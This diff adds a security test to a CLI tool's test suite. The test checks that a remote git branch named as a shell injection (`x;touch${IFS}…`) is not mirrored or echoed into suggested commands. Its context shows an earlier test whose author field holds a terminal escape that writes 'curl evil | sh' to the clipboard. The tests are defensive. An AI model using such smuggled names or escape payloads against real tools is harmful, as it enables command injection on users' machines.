@@ -91,3 +91,32 @@ describe("security: escape sequences in a remote's commits, printed by the CLI",
     assert.equal(json.versions[0].author, 'Eve \u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b[2J', 'JSON keeps the value as it is');
   });
 });
+
+describe("security: a remote's proposal branch named to be a command", () => {
+  test('`axme/proposals/x;touch${IFS}<file>` (a name git accepts, axme never makes): sync does not mirror it, `axme status` suggests no command holding it, whether sync or a plain `git fetch` brought it', async () => {
+    const { a, b } = await team();
+    const marker = join(scratch(), 'pwned');
+    const name = `x;touch\${IFS}${marker}`;
+    git(a, ['check-ref-format', `refs/heads/axme/proposals/${name}`]);
+    // a store commit that adds a decision: a proposal with something in it
+    const tip = git(a, ['rev-parse', REF]).trim();
+    const c = storeCommit(a, tip, {
+      'decisions/use-redis.md':
+        '---\nid: D-002\ntitle: Use Redis\nstatus: active\nenforce: advisory\ncreated: 2026-01-01T00:00:00.000Z\nupdated: 2026-01-01T00:00:00.000Z\n---\n\nUse Redis.\n',
+    });
+    git(a, ['push', '-q', 'origin', `${c}:refs/heads/axme/proposals/${name}`, `${c}:refs/heads/axme/proposals/caching`]);
+
+    assert.equal((await axmeIn(b, ['sync'])).code, 0);
+    const mirrored = git(b, ['for-each-ref', '--format=%(refname)', 'refs/remotes/origin/axme/proposals/']).trim().split('\n');
+    assert.deepEqual(mirrored, ['refs/remotes/origin/axme/proposals/caching'], 'only the proposal whose name axme makes is mirrored');
+    git(b, ['fetch', '-q', 'origin']); // a plain fetch mirrors every branch
+    const status = await axmeIn(b, ['status']);
+    assert.match(status.stdout, /axme diff --proposal caching/, 'the well-named proposal is listed');
+    assert.ok(!status.stdout.includes('touch'), `no suggested command holds the odd name: ${status.stdout}`);
+    const json = JSON.parse((await axmeIn(b, ['status', '--json'])).stdout);
+    assert.deepEqual(
+      json.proposals.map((p: { name: string }) => p.name),
+      ['caching'],
+    );
+  });
+});
